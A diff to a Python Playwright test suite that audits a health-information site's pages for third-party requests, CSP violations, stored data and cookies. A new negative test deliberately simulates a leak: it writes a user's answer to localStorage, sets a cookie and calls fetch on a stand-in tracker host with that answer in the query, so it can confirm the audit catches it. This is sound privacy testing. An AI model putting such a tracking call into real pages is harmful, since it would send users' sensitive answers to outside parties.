@@ -28,6 +28,27 @@ def origin(url):
     return f"{parts.scheme}://{parts.netloc}"
 
 
+SELF_CHECK_PAGES = ("/self-check/", "/embed/self-check/")
+
+
+def audit_page(page, log, origin_url: str, path: str, start: int) -> list[str]:
+    """What is wrong with one loaded page: other origins, CSP violations, stored data, runtime on articles."""
+    problems = []
+    others = [u for u in log.urls(start) if origin(u) != origin_url]
+    violations = page.evaluate("window.__cspViolations || []")
+    stored = storage_snapshot(page)
+    theme_only = all(any(k.endswith(name) for name in THEME_KEYS) for k in [*stored["local"], *stored["session"]])
+    if others:
+        problems.append(f"{path}: requests to other origins: {others}")
+    if violations:
+        problems.append(f"{path}: CSP violations: {violations}")
+    if not theme_only or stored["indexedDB"]:
+        problems.append(f"{path}: stored something other than the theme's display preferences: {stored}")
+    if path not in SELF_CHECK_PAGES and any("/pyodide/" in u for u in log.urls(start)):
+        problems.append(f"{path}: an article page loaded the Python runtime")
+    return problems
+
+
 def test_every_page_is_private_and_keeps_to_its_content_security_policy(page, context, audited):
     built_site, csp_server = audited
     page.add_init_script(RECORD_VIOLATIONS)
@@ -39,22 +60,30 @@ def test_every_page_is_private_and_keeps_to_its_content_security_policy(page, co
         start = len(log.entries)
         response = page.goto(csp_server.origin + path, wait_until="networkidle")
         assert response.headers.get("content-security-policy"), "the header is sent"
-        if path in ("/self-check/", "/embed/self-check/"):
+        if path in SELF_CHECK_PAGES:
             page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
-        others = [u for u in log.urls(start) if origin(u) != csp_server.origin]
-        violations = page.evaluate("window.__cspViolations")
-        stored = storage_snapshot(page)
-        theme_only = all(any(k.endswith(name) for name in THEME_KEYS) for k in [*stored["local"], *stored["session"]])
-        if others:
-            problems.append(f"{path}: requests to other origins: {others}")
-        if violations:
-            problems.append(f"{path}: CSP violations: {violations}")
-        if not theme_only or stored["indexedDB"]:
-            problems.append(f"{path}: stored something other than the theme's display preferences: {stored}")
-        if path not in ("/self-check/", "/embed/self-check/") and any("/pyodide/" in u for u in log.urls(start)):
-            problems.append(f"{path}: an article page loaded the Python runtime")
+        problems += audit_page(page, log, csp_server.origin, path, start)
     assert context.cookies() == []
     assert not problems, "\n".join(problems)
+
+
+def test_the_privacy_audit_catches_a_leak(browser, site_server):
+    """Negative case: a request to another origin, an answer in storage and a cookie are all caught."""
+    context = browser.new_context(bypass_csp=True)
+    page = context.new_page()
+    log = RequestLog().attach(context)
+    page.route("https://tracker.invalid/**", lambda route: route.fulfill(status=204, body=""))
+    page.goto(site_server.origin + "/risks-and-side-effects/")
+    page.evaluate("""() => {
+        localStorage.setItem("answers", JSON.stringify({danger_now: "yes"}));
+        document.cookie = "seen=1; path=/";
+        return fetch("https://tracker.invalid/collect?q=danger_now", {mode: "no-cors"});
+    }""")
+    problems = audit_page(page, log, site_server.origin, "/risks-and-side-effects/", 0)
+    assert any("tracker.invalid" in p for p in problems)
+    assert any("stored something" in p and "danger_now" in p for p in problems)
+    assert context.cookies() != []
+    context.close()
 
 
 def test_the_self_check_works_under_the_policy_header(page, csp_server):
